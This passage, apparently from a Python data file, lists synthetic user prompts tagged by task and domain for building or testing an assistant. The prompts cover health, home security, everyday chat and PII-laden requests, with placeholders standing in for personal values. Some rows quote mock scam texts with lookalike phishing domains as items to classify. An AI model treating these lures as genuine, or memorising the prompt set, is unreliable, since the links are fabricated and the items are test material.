qa m l p | my eye has been twitching for a week, why does that happen
reasoning m m p | my 3 year old still wont eat any vegetables and is a bit small for his age. should i be worried or is this a phase
qa m l p | how long after a covid jab can i give blood
extract m l p | from this leaflet, what am i not allowed to do while taking it? list it{LEAFLET}
summarize m l p | too long didnt read, whats important?{LEAFLET}
qa m l p | can i take this with lemsip?{LEAFLET}
summarize m l p | what does the school want us to do, short{SCHOOL}
reasoning m m p | my son has 3 spots but feels totally fine and has a school trip tomorrow. send him or not?{SCHOOL}
translate m l p | translate this into polish for the polish parents in the class{SCHOOL}
summarize m l c | explain my results like im 5{GPLETTER}
qa m l c | should i be worried about the cholesterol number? what is normal{GPLETTER}
extract m l c | list the things i need to do and when{GPLETTER}
reasoning m m c | could anything in her meds be causing the confusion? what should i ask the GP on thursday{MUMNOTES}
extract m l c | make me a table of her meds, dose, and time of day{MUMNOTES}
summarize m l p | can you shorten this for my mum, she gets confused with long stuff: 'After your cataract operation, use the eye drops four times a day for four weeks. Wear the eye shield at night for the first week. Avoid swimming and heavy lifting for two weeks. Call the eye clinic if your vision gets worse or the eye becomes very painful.'
extract m l p | pull the drug names and doses only: 'started on lansoprazole 30mg once daily, continue aspirin 75mg, stop naproxen, paracetamol 1g up to four times a day'
classify m l p | is each of these a sign of dehydration or not: dark pee, headache, itchy skin, dizziness, dry mouth, sneezing
sentiment m l p | my friend texted this after her diagnosis, how is she really doing? 'its fine honestly, lots of people have it, im just tired of everyone asking'
creative m l p | write a little song to help my 4 year old wash her hands for 20 seconds
creative m l p | poster slogan for flu jab week at our care home, something warm not scary
code m l p | excel formula that says HIGH if the blood sugar in B2 is over 10, LOW if under 4, otherwise OK
draft m l p | write a short msg to my gp surgery asking for a repeat of my inhaler, the blue one, im running low
translate m l p | traduce al inglés para el médico: 'Me duele el pecho cuando subo escaleras y me falta el aire desde hace una semana.'
math m l p calc | insulin is 1 unit per 10g carbs and my lunch is 65g carbs, plus 2 units correction. how many units in total
draft m l p | write instructions for the babysitter on what to do if my son has an asthma attack, he has a blue inhaler and a spacer
classify m l p | allergy or side effect? hives after penicillin, feeling sick on metformin, swollen lips after peanuts, drowsy on antihistamines
sentiment m l p | reassuring or not, this message from the care home? 'Your mother had a small fall this morning. She was checked by the nurse and seems fine, but we'll keep a close eye on her.'
extract m l p | get me the appointment dates and what each one is for: 'blood test 4 march 9:10, diabetic eye screening 11 march, foot check with nurse 2 april'
classify m l p | put these in order of how urgent: baby not feeding for 8 hours, toddler bumped head but playing fine, child with a rash that doesnt fade under a glass
reasoning m m p | ive been so tired for months, sleeping 9 hours and still knackered. what could be going on and what tests should i ask for
summarize m l c | summarise dads hospital letter for the family group chat{DADLETTER}
extract m l c | what meds is he going home on and for how long{DADLETTER}
reasoning m m c | is he really ready to go home with carers only twice a day? what should we ask before friday{DADLETTER}
draft m l p | write a note for my mums carers that her new tablets have to be taken with food, and to ring me if she is sick after them
summarize m l p | sum up what this says about the vaccine: 'The shingles vaccine is offered to adults aged 65 and over and to people over 50 with a severely weakened immune system. It is given as two doses, 2 to 6 months apart. Side effects such as a sore arm and tiredness are common and usually pass in a few days.'
extract m l p | pull the numbers out of my watch summary for the doctor: 'resting hr 58, avg sleep 6h 12m, steps 7,900/day, spo2 96%'
"""

# ---------------------------------------------------------------- security
SECURITY = r"""
qa s l p | got a text saying my parcel is held, is it real
qa s l p | someone got into my instagram and changed the email, how do i get it back
qa s l p | is it safe to save my passwords in chrome
reasoning s m p | password manager or just a notebook at home? my mum says the notebook is safer lol
qa s l p | what is 2 factor and do i really need it for my banking app
reasoning s m p | laptop is suddenly really slow and there are popups everywhere, have i got a virus or is it just old?
qa s l p | how do scammers get my number in the first place
qa s l p | i gave my bank details to someone on the phone pretending to be the bank, what now?? 😰
qa s l p | what's a VPN and does it make me invisible online
qa s l p | can someone hack my phone just by calling me
reasoning s m p | my 12 yo wants tiktok. what are the actual risks and how do i set it up so its safe
qa s l p | is the airport wifi ok for online banking or is that dangerous
qa s l p | why do work websites make me change my password every 90 days
qa s l p | whats a data breach and how do i know if my email was in one
qa s l p web | has ticketmaster had a breach recently? got a weird email from them
qa s l p | chrome says 'your connection is not private', should i just click continue
classify s l p | scam or legit? 'HMRC: You are eligible for a tax refund of £326.40. Claim within 24h: hmrc-refund-portal.co'
classify s l p | rate these passwords weak/ok/strong: Summer2024!, correct-horse-battery-staple, qwerty123, Tr0ub4dor&3, my dogs name
sentiment s l p | how stressed does this coworker sound: 'im locked out of everything AGAIN, 3rd reset this week and the helpdesk just reads a script'
draft s l p | write a msg to the family group chat telling everyone not to click links from 'the bank' and to call me first
draft s l p | help me write to the helpdesk that i think i clicked a bad link this morning and typed my password in
code s l p | whats the command to see which ports are open on my home network
code s l p | python to check if a password was in a data breach with the haveibeenpwned api
qa s l p | what is phishing? my grandma keeps getting these weird emails
translate s l p | translate to german for my dad: 'Never give anyone the code the bank sends you by SMS, not even the bank.'
creative s l p | a funny rhyme to remind the office to lock their screens when they go for coffee
qa s l p | antivirus vs firewall, whats the difference
reasoning s h p | i run a small accounting office, 6 people, everyone on their own laptops and one shared gmail. can you make me a proper plan to sort out our security over the next 3 months, what to do first and roughly what it costs
qa s l p | wie erkenne ich eine Phishing-Mail?
qa s l p | ¿es seguro usar el mismo pin para todas mis tarjetas?
qa s l p | c'est quoi une attaque par rançongiciel ?
qa s l p | is it ok to plug in a usb stick i found in the car park at work
qa s l p | someone cloned my whatsapp?? my friends are getting msgs asking for money from 'me'
qa s l p | somebody call me and say is from microsoft and my computer have virus, is true?
code s l p | password generator in python, 16 characters with symbols
code s l p | how do i hash passwords properly in node before i save them
qa s l p | how do i change my wifi password to something strong and see who's on my wifi right now
sentiment s l p | does this message from IT sound urgent or routine: 'We have detected unusual sign-in activity on your account and have temporarily disabled it.'
sentiment s l p | tone of this from our IT guy, is he annoyed with me? 'Please do not forward suspicious emails to the whole company. Use the report button. Thanks.'
classify s l p | which of these are safe to put online: my pets name, my home town, holiday pics while im still away, my job title, my date of birth
extract s l c | pull out the link and the number they want me to call: 'Amazon: your account is locked. Visit amzn-secure-login.info or call {PH2} to unlock.'
qa s l i retr | whats the process here if i lose my work laptop, is there a form somewhere on the intranet
reasoning s m p | should i let my phone remember my face for the banking app or is a pin safer
qa s l p | what does end to end encrypted mean on whatsapp
classify s l p | is this a phishing sign or not: sender is my actual boss, link goes to 'micros0ft-login.com', no typos, asks me to 'review the doc'
code s m i | my nephew wrote the login for our shop website. is this safe??{LOGINPHP}
reasoning s m c | what happened here, was someone trying to get in? do i need to do anything{ROUTER}
summarize s l c | explain these lines simply, im not techy{ROUTER}
extract s l c | which ip addresses tried and which ports{ROUTER}
classify s l c | is this email real or fake{NETFLIX}
reasoning s m c | why does this look dodgy, what are the giveaways{NETFLIX}
qa s l c | this wasnt me, im in leeds. what do i do right now{LOGIN}
classify s l c | scam or real? my mum got this{BANKTXT}
draft s l c | write a msg for my mum explaining why this is probably a scam and what to do, simple words{BANKTXT}
summarize s l p | what's this text on about{PARCEL}
summarize s l p | tl;dr this email from IT: 'From Monday all staff must use the authenticator app instead of SMS codes. Install it before Friday and register your phone at the help desk. Accounts without it will be locked.'
extract s l p | which websites and apps are named in this scam text: 'Your PayPal is limited. Confirm at paypal-resolution.help or download the SupportDesk app to talk to an agent'
creative s l p | write a short funny story for the staff newsletter about a hacker who gives up because everyone uses strong passwords
math s l p calc | a password of 8 lowercase letters, how many combinations is that, and how many with 12
translate s l p | translate into french: 'Your account has been locked after too many failed attempts. Reset your password using the link we sent you.'
"""

# ---------------------------------------------------------------- general
GENERAL = r"""
chat g l p | hiii 👋
chat g l p | thank u so much u saved my life lol
chat g l p | r u chatgpt or something else
chat g l p | can you remember what i told you yesterday?
chat g l p | do u have feelings tho
chat g l p | sorry my english is not so good, i hope you understand me
chat g l p | that answer was wrong btw
chat g l p | hola! que tal?
chat g l p | guten morgen 😊
chat g l p | just testing if this works
chat g l p | who made you
chat g l p | im bored
chat g l p | lol you're funnier than my coworkers
chat g l p | wait what can you actually do
chat g l p | bonne nuit !
chat g l p | my boss just yelled at me in front of everyone 😞 i just need to vent for a sec
chat g l p | are you better than google? lol
chat g l p | ok thanks, and sorry for all the questions
chat g l p | can i ask you something personal?
creative g l p | a funny poem about my bank balance at the end of the month 😂
creative g l p | write a limerick about a lawyer who never stops billing
creative g l p | short poem to cheer up my friend in hospital after her knee op
creative g l p | birthday message for my dad turning 70, he loves fishing and complaining about football, make it funny
creative g l p | give me 10 names for my cat, shes grey and very rude
creative g l p | story for my 5 year old about a bus that is afraid of the dark, like 200 words
creative g l p | funny caption for a photo of my team at the xmas party all in ugly jumpers
creative g l p | can u write a rap about spreadsheets for our leaving do 🎤
creative g l p | haiku about working from home with a toddler
creative g l p | come up with a name for my cleaning business, something catchy
creative g l p | escribe un poema corto para el cumpleaños de mi abuela
creative g l p | scrivi una barzelletta sul caffè per il gruppo whatsapp dell'ufficio
creative g l p | write a short story about a lonely vending machine
creative g l p | slogan for our school bake sale
creative g l p | a scary story for a sleepover but not too scary, kids are 8
draft g l p | write a notice for the vending machine saying its out of order til monday
draft g l p | write the bake sale poster text: friday 3pm school hall, all money goes to the library
draft g l p | help me write a message to my kid's school that he had a fever last night and wont be in today
draft g l p | write a msg to my flatmates that the electricity bill came in at 312 and we each owe a quarter, dont want to sound like a nag
draft g l p | write a reply to my neighbour thanking her for feeding the cat while we were away
draft g l p | short email to my teacher that i will miss class on monday because of a dentist appointment
draft g l p | can you make my cv summary sound better, i am warehouse worker 8 years, forklift licence, team leader sometimes
draft g l p | make this more polite pls: 'you still didnt send the photos from the wedding, send them'
draft g l p | write a note for the office fridge asking people to stop eating other peoples lunch, funny but firm
draft g l p | i need to tell my landlord the washing machine is broken, can you write it
draft g l p | please help me to write email for my manager, i am sick today and cannot come, i will send doctor paper tomorrow
draft g l p | can you make this english correct: 'I am agree with you, we can to meet tomorrow'
draft g l p | fix my english pls: 'Dear sir, i am writing for ask about the job of cashier what you announce'
draft g h p | write a full welcome pack for new volunteers at our food bank: what we do, shifts, rules, safety, who to call, and a short faq
qa g l p | how do i get candle wax out of a carpet
qa g l p | how does a heat pump work, is it like a fridge backwards?
reasoning g m p | why does my wifi keep dropping in the evenings but not in the morning
qa g l p | what time is it in singapore when its 9am in london
qa g l p | is 'feedback' countable? can i say 'feedbacks'
qa g l p | wie lange kocht man ein weiches Ei?
qa g l p | onde fica a cidade do porto, no norte ou no sul de portugal?
qa g l p web | is there a train strike tomorrow in london?
qa g l p web | whats the weather going to be like in lisbon this weekend
qa g l i retr | whats our guest wifi password? visitor coming at 2
qa g l i retr | how many days holiday do we get here, cant find it in the handbook
qa g l i retr | who do i ask about getting a second monitor, is there a form
qa g l i retr | where is the first aid kit on our floor and who are the first aiders
qa g l p web | are there any pharmacies open on sunday in manchester city centre
qa g l p web | is outlook down for everyone or just me
qa g l p | how do i change my wifi name
reasoning g m p | my team keeps missing deadlines and im new as a manager. what should i try first
reasoning g m p | should i take the job with the longer commute but 10% more pay, or stay where im happy
reasoning g m p | 4 day week at 80% pay or keep doing 5? i have 2 kids under 6
reasoning g m p | why do my tomato plants have yellow leaves, i water them every day
reasoning g m p | 3 families going on holiday together, how do we split the cooking and the costs fairly
reasoning g m p | ipad or a cheap laptop for my 14 year old for school?
math g l p calc | bill is 84.60 and i want to leave 12% tip, whats the total
math g l p calc | 3 adults 2 kids, tickets 14.50 adult 9 kid, how much
math g l p calc | if i drive 340 km and my car does 6.5 litres per 100km how many litres do i need
math g l p calc | need to be at the airport 6:15, drive is 1h 50, plus 20 min buffer. what time do i leave
math g l p calc | we raised 1,245 at the bake sale and 3 charities split it equally, how much each
math g l p calc | quanto é 18% de 350?
math g l p calc | i walk 6,500 steps a day and the doctor said aim for 8,000. how many more steps a week is that
math g l p calc | the paint covers 12 m2 per litre and i have 3 walls of 4m by 2.5m, two coats. how many litres
code g l p | excel formula to count how many cells say 'yes'
code g l p | how do i make a button in html that goes to another page
code g l p | python says 'IndentationError: unexpected indent', what did i do wrong
code g l p | sql to find customers who havent ordered anything in 6 months
code g l p | whats a for loop? explain with a tiny example
code g l p | bash script to rename all my photos to the date they were taken
code g l p code | run this and tell me what it prints: print(sum(range(1, 101)) / 7)
code g l p | how to center a div 😭
code g l p | regex for uk phone numbers with spaces or dashes
code g l p | vba macro that emails each person their own row from a spreadsheet
code g l p | ¿cómo hago un gráfico de barras en python con matplotlib?
code g l p | git says 'detached HEAD', what is that and how do i get out of it
code g l p | python login page for my school project, just username and password, it doesnt need to be secure its only a demo
code g l p code | run this python and tell me if it errors: [int(x) for x in '1,2,three'.split(',')]
code g m i | our site search is slow, can u make this faster? SELECT * FROM products WHERE LOWER(name) LIKE '%shoe%' ORDER BY created_at DESC
code g l p | why doesnt this work, it crashes on the total line{PYBUG}
translate g l p | translate to spanish for my cleaner: 'I will pay you on Friday by bank transfer, same amount as last month.'
translate g l p | how do u say 'could we have the bill please' in portuguese
translate g l p | translate 'happy retirement, we will miss your terrible jokes' into german
translate g l p | put this in english please: 'Ciao a tutti, la riunione di domani è spostata alle 15. Portate i vostri portatili.'
translate g l p | traduis en anglais : 'Je serai en retard ce matin, mon train est annulé.'
translate g l p | can you translate my text to my mother in law into polish: 'thank you for the lovely dinner, next time we cook for you'
translate g l p | how do you say 'no more meetings after 4pm' in japanese lol
translate g l p | übersetze bitte ins Spanische: 'Der Drucker im zweiten Stock ist kaputt.'
translate g l p | what does 'fin de semana largo' mean in english
summarize g l i | tldr{MEMO}
extract g l i | what days and times do i need to remember from this{MEMO}
summarize g l p | sum up what ppl are saying{REVIEWS}
sentiment g l p | overall are people happy or not{REVIEWS}
classify g l p | sort these into food, price, service, atmosphere{REVIEWS}
extract g l p | pull out every price or number mentioned{REVIEWS}
summarize g l i | short version of our retro pls{RETRO}
classify g l i | which of these are process problems and which are people problems{RETRO}
extract g l i | list the ideas as action items{RETRO}
sentiment g l i | hows the team feeling going by this{RETRO}
extract g l p | ingredients only, as a shopping list{RECIPE}
math g l p calc | i need to make this for 20 people, how much of everything{RECIPE}
translate g l p | translate the recipe into french for my mother in law{RECIPE}
sentiment g l p | how angry is this person 1 to 10{COMPLAINT}
draft g l p | reply to this as the broadband company, apologise and offer an engineer visit thursday morning{COMPLAINT}
classify g l p | which team gets this: billing, technical or cancellations{COMPLAINT}
summarize g l p | one line summary for the ticket{COMPLAINT}
sentiment g l p | is this text from my friend passive aggressive or am i reading into it: 'no worries, i'll just do it myself like always'
sentiment g l p | is my boss angry?? 'Let's discuss your project timeline tomorrow morning. Please come prepared.'
sentiment g l p | my landlord replied 'Noted.' to my message asking for a lower rent lol, is that good or bad
sentiment g l p | rate the vibe of this review 1-5: 'hotel was fine i guess, bed was comfy, breakfast was sad'
sentiment g l p | how does this customer feel: 'took a while but you guys sorted it, ta'
classify g l p | label each email subject as urgent, can wait, or spam: 'server room door left open', 'you won a cruise!!!', 'lunch order for friday', 'client meeting moved to 9am today'
classify g l p | is this a question, a complaint or a thank you: 'the new coffee machine is great but why does it take 5 min to heat up'
classify g l p | put these chores into daily, weekly, monthly: hoovering, bins, cleaning the oven, dishes, changing bedsheets, watering plants
extract g l p | get the dates and the towns from this: 'we land in rome 14 aug, train to florence 16th, then siena 19-21, fly home from pisa 22nd'
extract g l p | pull just the names of the films from this: 'we watched dune on friday, then barbie sat, oppenheimer was sold out so we did wonka instead'
summarize g l p | can u sumarise this thread in 2 lines: 'Tom: who's bringing the projector? Ana: I can but I need a lift. Tom: I'll pick you up at 8. Ana: ok and can someone grab milk. Jo: on it.'
summarize g l i retr | summarise last month's all-hands for me, i missed it
summarize g l p | give me the gist of this in one sentence: 'The library will close at 5pm on weekdays during the summer holidays, reopening with normal hours on 2 September. The book drop will remain open and returns will be processed the next working day.'
"""

# ---------------------------------------------------------------- inline PII
PII_ROWS = r"""
draft g l c | txt {P3} that book club moved to thursday 7pm, her number is {PH1}
draft f l r | write to my bank, the atm on the high street ate my card {V1} yesterday and i need a new one posted
qa f l r | my new landlord in berlin sent {IB_DE} for the deposit. how long does a transfer from the uk take?
draft f l r | email my accountant my new bank details for the tax refund: {IB_GB}, name on the account {P6}
reasoning s m r | i typed my card number {M1} into a site that now looks fake. cancel the card or just watch the statement?
extract l l r | from this immigration form just give me the name and ssn as json: 'Applicant: {P11}, SSN {S1}, 14 Elm St Apt 3, Newark NJ'
qa f l r | my ssn is {S3}, where can i check my credit report for free
draft g l r | my NRIC is {N1} and hp {PH7}, write a short msg to the condo management asking for a visitor parking label
qa l l r | is it ok that my new employer asked for my NRIC {N2} over whatsapp? feels weird
summarize m l c | summarise this for my sister: patient {P5}, seen in clinic, knee xray shows moderate arthritis, advised weight loss, physio referral, regular paracetamol, review in 6 months
code s l c | iptables command to block {IP3} pls, it keeps hitting my server
qa s l c | there's a device {IP4} on my router i dont recognise, how do i find out what it is
qa s l c | is {IP5} an ipv6 address? it shows up in my login history and i dont know if its me
classify s l c | which of these logins look wrong: {IP1} (london, my laptop), {IP8} (lagos, 3am), {IP6} (home network)
draft g l c | email {P8} at {EM7} that ill be 10 mins late to the flat viewing, sorry
draft g l r | my mate {P12} still owes me 85 euro from the trip, write him a friendly msg with my bank details {IB_PT}
translate g l c | translate to french for the airbnb host: 'Hi, this is {P1}, we arrive around 9pm, my number is {PH6}'
extract g l c | get the email and the mobile from this signature: '{P4} | Senior Designer | {EM4} | m. {PH5}'
draft g l c | write to {EM2} ({P2}) that i accept the job but would like to start on 3 june instead
qa s l r | i accidentaly pasted my card number {A1} in the team chat, how bad is it
classify f l r | which one is the amex, {V2} or {A2}? hotel wants the right one
draft f l r | write a dispute to my bank: 89.99 taken from card {D1} by 'DIGITALSUBS', i never signed up for anything
draft g l c | out of office: im away til the 20th, for anything urgent contact {P9} at {EM8} or {PH15}
qa l l c | my ex keeps calling me from {PH3} even after i blocked her old number, is there something legal to make it stop
draft f l r | write to the tax office that my ssn was typed wrong on my return, the right one is {S2}
chat g l c | hi im {P7}, nice to meet you!
draft g l c | quick reply to {EM9}: tell connor the van is booked for saturday 8am
summarize s l c | what's this alert in 1 sentence: 'Failed login x14 for user {EM3} from {IP7} between 01:02 and 01:09'
reasoning s m r | someone sent 500 to my account {IB_NL} 'by mistake' and now wants it back in cash, whats the catch
extract f l r | pull the iban and the name from this invoice footer: 'Pay to {P7}, {IB_ES}, ref 2291'
draft g l c | email {EM5} to move my physio appointment to next week, i can be reached on {PH2}
qa m l c | {P10} here, im on warfarin and need a tooth out next week, do i have to stop it?
code s l c | fail2ban or whatever to ban {IP2} after 5 failed ssh logins
draft f l r | tell my french landlord (english is fine) that rent will come from my new account from now: {IB_FR}
translate f l r | translate into italian: 'Please pay the deposit of 300 euro to {IB_IT} by Friday.'
qa f l r | will my bank charge me to send money to {IB_BE}? its in belgium and im in ireland ({IB_IE})
draft g l c | write an sms to the driver at {PH8} that we're at gate 4 not gate 2
draft g l c | text the babysitter on {PH9} that we'll be back by 11
translate g l c | traduz pra inglês: 'Oi, é o {P12}, me liga no {PH11} quando chegar'
extract g l c | dammi solo il numero di telefono: 'per info chiamare {PH12} dopo le 18, chiedere di {P13}'
draft g l c | schreib eine kurze Nachricht an den Handwerker, dass er mich unter {PH13} erreichen kann
qa s l c | missed call from {PH14} then a text saying its my bank, legit?
draft f l c | write me what to say when i call back my insurance broker on {PH4} about renewing the home cover
extract l l r | pull the NRIC and name: 'Tenant: {P9}, NRIC {N3}, lease from 1 Jan, 2 years'
draft f l r | pls cancel card {M2} and send new one, i lost my wallet on the bus (write it for the bank chat)
reasoning f m c | {P14} ({EM10}) invoices me every month but never on time and always rounds up. should i keep using him as my bookkeeper?
draft g l c | message to {P13} on {PH16}: the dinner moved to 8 at the usual place
sentiment g l c | how does {P6} feel about the move, reading this: 'honestly gutted to leave the team but the new role is too good to turn down'
classify f l r | is {V3} a visa or a mastercard
"""

# ---------------------------------------------------------------- hard negatives (no PII)
HARD = r"""
!qa g l p | my order #40019275 still says processing after a week, is that normal for ikea?
!extract g l p | pull the tracking number and the order number: 'Order 113-4829174-5510293 shipped, tracking 1Z 4E9 R72 03 4418 2207'
!summarize g l i | summarise: laptop updated to version 22.3.1.204 last night, since then the dock doesnt work, IT ticket INC0049812 still open
!draft f l p | write to the supplier that invoice INV-2024-00873 for 1,284.50 was paid on 03/05/2024, pls stop chasing
!qa g l p | whats the number on my gift voucher for, {BADCARD1}? do i type it like a card number at checkout
!math f l p calc | receipt total 1,249.99, i paid 1,300.00 cash. whats my change, and how much of the total was the 20% vat
!qa g l p web | my phone says software version 4.2.0.17, is that the latest one?
!reasoning f m p | the bank says the IBAN {BADIBAN1} is invalid, my client sent it. what could be wrong
!extract g l p | give me all the dates: 'booked 12/04/2025, check-in 2025-05-18, check-out 21.05.2025, free cancellation until 10 May'
!math f l p calc | 3 invoices: 2,340.00 + 1,118.75 + 96.20, total?
!qa g l p | error 0x80070005 every time i install updates, what does that mean
!summarize g l i | JIRA-4471 and JIRA-4480 are both the login page timing out since build 3.14.2.0, one line for standup pls
!extract f l p | whats the policy number and the renewal date: 'Policy no. {BADCARD2}, renews 01/09/2025, premium 412.88'
!qa g l p | serial SN-2231-8874-0016 on the fridge, where do i register the warranty
!draft g l i | tell the team release 10.4.0.233 is pushed back to 2025-03-14
!classify g l p | which of these are order numbers and which are tracking numbers: 205-7781920-3321845, 1Z999AA10123456784, 112-0038812-1180027, JJD000390007811823
!qa f l p | i copied my iban as {BADIBAN2} and the form says invalid, did i copy it wrong or is it the form
!math f l p calc | loan ref 88213409: borrowed 4,500 at 5.9% for 3 years, whats the monthly payment
!extract g l p | flight number and booking code pls: 'BA0117 LHR-JFK 14:35, booking ref QX7T2M, seat 34K'
!sentiment g l p | customer on order 7712-0093-1182 wrote 'third time asking, still nothing, 0/10'. how annoyed 1-5
!code g l p | regex that matches version strings like 1.2.3 or 10.20.30.400
!qa g l p | receipt says card ending ****4821, auth code 008812. is that enough to return the shoes?
!math f l p calc | two quotes for the boiler: 14,750.00 fitted, or 13,900 plus 1,100 fitting. which is cheaper and by how much
!extract l l p | pull the case number and hearing date: 'Case no. 2024-FC-00918, hearing 17.09.2025 at 10:30, courtroom 4'
!qa g l p | what is this long number on my train ticket, {BADCARD3}? the machine wont take it
!summarize f l p | summarise: 'Statement period 01/03/2025-31/03/2025. Opening balance 1,842.16. Closing balance 967.40. Interest paid 0.84.'
!translate g l p | translate to german: 'Your order 5538-2291-7740 will arrive between 14:00 and 16:00 on 22/11.'
!qa s l p | IT says update chrome to 126.0.6478.126 asap. why is that one so urgent
!math g l p calc | meeting room is booked 09:15-11:45 and 13:30-16:10, how many hours in total
!draft f l p | write to the hotel that the 1.249,00 EUR on booking 8834-22019 is wrong, it should be 1.049,00
!qa g l p | gift card {BADCARD4} isnt working online, who do i contact
!extract f l p | pull the country code and the amount from this: 'Transfer of 1,150.00 EUR to {BADIBAN3} rejected: invalid account'
!extract f l p | the refund reference is {BADIBAN4}?? looks like an iban to me. just pull the amount and date: 'Refund 64.90 issued 12.02.2025'
!qa g l p | my nric is wrong on the form, it says {BADNRIC1}, how do i get the school to fix it
"""

# ---------------------------------------------------------------- multi-task rows
MULTI = r"""
qa f l p => whats an index fund ;; reasoning f m p => should i put my 5k in one or leave it in savings | whats an index fund and should i put my 5k in one or leave it in savings
summarize l l c => explain this in simple words ;; draft l l c => write him a reply saying i dont agree with the carpet charge | explain this in simple words and then write him a reply saying i dont agree with the carpet charge{DEPOSIT}
math f l c calc => how much did i spend on amazon ;; classify f l c => which of these are subscriptions | how much did i spend on amazon, also which of these are subscriptions{STATEMENT}
qa m l p => is it normal for a 2 year old to have a fever of 39 ;; translate m l p => how do i say fever and rash in spanish | is it normal for a 2 year old to have a fever of 39? oh and how do i say fever and rash in spanish, we're in madrid
classify s l p => is this a scam ;; draft s l p => write a reply to my aunt telling her not to click it | is this a scam? and write a reply to my aunt telling her not to click it: 'DPD: your parcel could not be delivered, reschedule here: dpd-parcels-reschedule.top/id'
draft g l p => write the invite for the bbq saturday ;; creative g l p => a funny name for the group chat | write the invite for the bbq saturday and a funny name for the group chat 🍔
extract m l c => list her meds with times ;; reasoning m m c => tell me if any could make her confused | list her meds with times then tell me if any could make her confused{MUMNOTES}
code g l p => fix it pls ;; qa g l p => whats the difference between a string and a number in python anyway | fix it pls, and whats the difference between a string and a number in python anyway{PYBUG}
reasoning l m c => can they do this ;; draft l l c => help me write back asking for the inspection photos | can they do this?? also help me write back asking for the inspection photos{DEPOSIT}
qa s l p => how do i turn on 2fa on gmail ;; draft s l p => write a short note to my parents telling them to do it too | how do i turn on 2fa on gmail, and then write a short note to my parents telling them to do it too
summarize f l p => summarise this ;; reasoning f m p => tell me if its a good time to remortgage | summarise this and tell me if its a good time to remortgage, ours ends in march{NEWS}
math g l p calc => how much flour for 3 cakes ;; translate g l p => translate it to spanish for my nanny | how much flour for 3 cakes? and translate it to spanish for my nanny{RECIPE}
sentiment g l p => how angry is he ;; draft g l p => write a calm reply offering a discount | how angry is he, then write a calm reply offering a discount on next month{COMPLAINT}
chat g l p => hey 🙂 ;; qa g l p => how do i screenshot on a mac | hey 🙂 how do i screenshot on a mac
translate l l p => translate this to english ;; qa l l p => is it normal for a deposit to take 30 days | translate this to english and is it normal for a deposit to take 30 days? 'La fianza será devuelta en un plazo máximo de 30 días tras la entrega de llaves.'
extract f l c => pull the net pay ;; math f l c calc => work out what % of my gross goes on tax and NI | pull the net pay and work out what % of my gross goes on tax and NI{PAYSLIP}
qa f l c => whats the student loan line ;; reasoning f m c => should i stop the pension to take home more | whats the student loan line and should i stop the pension to take home more{PAYSLIP}
reasoning s m c => is someone attacking my router ;; code s l c => give me the command to block that ip | is someone attacking my router?? give me the command to block that ip too{ROUTER}
summarize m l c => summarise for my husband ;; extract m l c => list what i need to book | summarise for my husband and list what i need to book{GPLETTER}
qa m l p => can i give my kid calpol and nurofen together ;; math m l p calc => hes 14kg how much nurofen | can i give my kid calpol and nurofen together? hes 14kg how much nurofen (its 100mg/5ml and 7.5mg per kg)
draft g l i => write a message to the team about the kitchen closing ;; creative g l i => a short funny poster line for the fire drill | write a message to the team about the kitchen closing and a short funny poster line for the fire drill{MEMO}
classify g l i => label these as process or people ;; draft g l i => draft a slack msg with the 3 ideas | label these as process or people then draft a slack msg with the 3 ideas{RETRO}
qa l l p => what is a zero hours contract exactly ;; qa l l p => can my boss cancel a shift last minute without paying me | what is a zero hours contract exactly, and can my boss cancel a shift last minute without paying me
reasoning f m p calc => which phone deal is cheaper ;; draft f l p => write a msg to vodafone asking them to match it | which phone deal is cheaper, 30/month for 24 months or 650 upfront + 10/month sim? then write a msg to vodafone asking them to match it
translate g l c => translate into english ;; draft g l c => write a reply saying yes we're coming | translate into english and write a reply saying yes we're coming: 'Ciao! Sono {P13}, sabato facciamo una grigliata da noi, venite? Scrivimi al {PH12}'
extract s l c => who was it for and where from ;; classify s l c => is it real or fake | who was it for and where from, and is it real or fake{LOGIN}
qa s l p => what's a password manager ;; reasoning s m p => which one should a family of 4 use | what's a password manager and which one should a family of 4 use, we all have iphones
math f l p calc => how much is 23% vat on 1,480 ;; draft f l p => draft the invoice email to the client | how much is 23% vat on 1,480 and draft the invoice email to the client, im a freelancer in ireland
summarize g l p => summarise this thread ;; extract g l p => list who is bringing what | summarise this thread and list who is bringing what: 'Sam: i'll do burgers. Kim: salad and drinks!! Raj: cant make it sorry. Ellie: dessert, and i have a gazebo if it rains'
qa m l p => what does hba1c mean ;; reasoning m m p => is 48 bad | what does hba1c mean and is 48 bad? my doc said borderline
draft l l p => write to the airline asking for a refund ;; qa l l p => what compensation am i entitled to | write to the airline asking for a refund, cancelled flight madrid to london, and what compensation am i entitled to?
creative g l p => poem for mum's 60th ;; translate g l p => put it in portuguese too | poem for mum's 60th and put it in portuguese too, she's from porto
code g l p => excel formula to split first and last name ;; qa g l p => how do i freeze the top row | excel formula to split first and last name, oh and how do i freeze the top row
sentiment f l p => how do people feel about the price rise ;; summarize f l p => summarise the main complaints | how do people feel about the price rise? summarise the main complaints: 'cancelling, 14.99 is too much' / 'fine if you add more shows' / 'again?? third time this year' / 'still worth it for me'
reasoning l m c => should i sign it as it is ;; draft l l c => write an email asking them to drop the competitor clause | should i sign it as it is? and write an email asking them to drop the competitor clause{OFFER}
qa s l p => how do i know if my phone has spyware ;; reasoning s m p => should i reset it | how do i know if my phone has spyware? my ex had my phone for a day, should i reset it
math g l c calc => how much do we each owe for everything ;; draft g l c => write the msg to the group | how much do we each owe for everything and write the msg to the group{WHATSAPP}
translate m l p => translate to english ;; qa m l p => is this normal dose for adult | translate to english and is this normal dose for adult: 'Ibuprofeno 600 mg, un comprimido cada 8 horas durante 5 días, tomar con comida.'
classify f l p => tag these as fixed or variable ;; math f l p calc => add up the fixed ones | tag these as fixed or variable, then add up the fixed ones: rent 900, food ~300, phone 25, petrol ~120, gym 30, going out ~150
chat g l p => thx!! ;; qa g l p => how long do i boil rice | thx!! one more thing - how long do i boil rice
extract l l p => list the deadlines ;; summarize l l p => a short summary of what i need to do | list the deadlines and a short summary of what i need to do{PARKING}
qa f l p => how does a credit union work ;; reasoning f m p => is it better than my bank for a small loan | how does a credit union work, is it better than my bank for a small loan?
draft s l i => write a warning email to staff about fake invoice emails ;; creative s l p => a catchy slogan for the poster | write a warning email to staff about fake invoice emails and a catchy slogan for the poster too
summarize s l c => tldr ;; extract s l c => the ips ;; reasoning s m c => should i worry | tldr, the ips, and should i worry?{ROUTER}
qa m l p => is paracetamol safe in pregnancy ;; draft m l p => write a reminder for my partner of the max dose | is paracetamol safe in pregnancy and can you write a reminder for my partner of the max dose
